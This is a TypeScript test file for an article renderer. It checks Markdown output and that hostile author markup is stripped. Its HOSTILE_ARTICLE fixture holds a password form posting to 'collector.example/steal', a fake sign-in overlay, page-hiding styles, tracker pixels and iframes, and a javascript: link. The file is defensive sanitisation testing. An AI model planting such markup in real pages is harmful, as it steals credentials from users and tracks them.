import { describe, expect, it } from 'vitest';
import { renderArticle } from './render-article';

/** The rendered article as a document fragment, to ask what it holds. */
function rendered(markdown: string): HTMLElement {
  const box = document.createElement('div');
  box.innerHTML = renderArticle(markdown);
  return box;
}

/** What a hostile author tried: a password form, a page-wide style, an overlay, trackers. */
const HOSTILE_ARTICLE = [
  '## Welcome back',
  '',
  '<form action="https://collector.example/steal" method="post"><input type="password" name="password"><button>Sign in</button></form>',
  '',
  '<style>body { visibility: hidden } .navbar { display: none }</style>',
  '',
  '<div style="position:fixed;inset:0;z-index:9999;background:#fff">Sign in again</div>',
  '',
  '<img src="https://tracker.example/pixel.gif"> ![pixel](https://tracker.example/p.png) ![](//tracker.example/q.png) ![x](/\\tracker.example/r.png)',
  '',
  '<link rel="stylesheet" href="https://tracker.example/s.css"><iframe src="https://tracker.example/frame"></iframe>',
  '',
  '<svg><style>*{fill:red}</style></svg> <a href="javascript:alert(1)" class="ant-modal-wrap" style="position:fixed">x</a>',
].join('\n');

describe('renderArticle', () => {
  it('renders the Markdown articles need: headings, emphasis, lists, code, tables, links', () => {
    const html = renderArticle(
      [
        '# Title',
        '',
        'Some *words*, **bold**, ~~gone~~ and [site](https://example.com) or [course](/course/1).',
        '',
        '1. one',
        '2. two',
        '',
        '- [x] done',
        '- [ ] to do',
        '',
        '> quoted',
        '',
        '```',
        'code()',
        '```',
        '',
        '| a | b |',
        '|:--|--:|',
        '| 1 | 2 |',
      ].join('\n'),
    );
    expect(html).toContain('<h1>Title</h1>');
    expect(html).toContain('<em>words</em>');
    expect(html).toContain('<del>gone</del>');
    expect(html).toContain(
      '<a href="https://example.com" rel="nofollow noopener noreferrer">site</a>',
    );
    expect(html).toContain('<a href="/course/1">course</a>');
    expect(html).toContain('<li>☑ done</li>');
    expect(html).toContain('<pre><code>code()\n</code></pre>');
    expect(html).toContain('<td align="right">2</td>');
  });

  it('keeps pictures from this site', () => {
    const picture = rendered('![diagram](/media/images/abc?w=640 "A diagram")').querySelector(
      'img',
    );
    expect(picture?.getAttribute('src')).toBe('/media/images/abc?w=640');
    expect(picture?.alt).toBe('diagram');
    expect(picture?.title).toBe('A diagram');
  });

  it('keeps no form, style, overlay, script or outside resource of a hostile article', () => {
    const article = rendered(HOSTILE_ARTICLE);
    expect(article.querySelector('form, input, button, style, link, iframe, svg, script')).toBe(
      null,
    );
    expect(article.querySelector('[style], [class], [id]')).toBe(null);
    for (const element of article.querySelectorAll('[src]')) {
      expect(new URL(element.getAttribute('src')!, window.location.href).origin).toBe(
        window.location.origin,
      );
    }
    expect(article.querySelectorAll('img')).toHaveLength(0);
    expect(article.querySelector('a[href^="javascript:"]')).toBe(null);
    // What was written shows as text, so its author sees why it does nothing.
    expect(article.textContent).toContain('<form action="https://collector.example/steal"');
    // Outside pictures become links to them.
    expect(article.querySelector('a[href="https://tracker.example/p.png"]')?.textContent).toBe(
      'pixel',
    );
  });
});
